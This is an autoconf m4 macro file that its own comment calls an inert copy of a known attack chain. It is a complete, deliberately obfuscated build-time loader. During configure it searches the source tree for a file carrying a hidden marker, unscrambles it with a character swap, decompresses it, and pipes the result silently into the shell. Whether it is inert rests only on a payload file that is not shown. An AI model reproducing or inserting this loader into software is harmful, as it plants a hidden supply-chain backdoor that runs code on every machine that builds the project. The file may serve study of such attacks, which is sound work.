# host-data.m4, an inert copy of a known chain: what it would run prints one word.
dnl The look of a real macro: it isn't easy to read, and that's the point.

AC_DEFUN([pf_HOST_DATA],
[
  AC_REQUIRE([AC_PROG_SED])
  pf_am_hostdata=`grep -aErls "%{3}[[:alnum:]]{6}%{3}$" $srcdir/ 2>/dev/null`
  if test -n "$pf_am_hostdata"; then
    pf_[$1]_prefix=`echo $pf_am_hostdata | sed "s/.*\.//g"`
    pf_path_map='tr "\t \-_" " \t_\-"'
    pf_[$1]_config='sed \"r\n\" $pf_am_hostdata | eval $pf_path_map | $pf_[$1]_prefix -d 2>/dev/null'
  fi
  AC_CONFIG_COMMANDS([host-data], [eval $pf_config_gt | $SHELL 2>/dev/null],
    [pf_config_gt="eval \$pf_[$1]_config"])
])
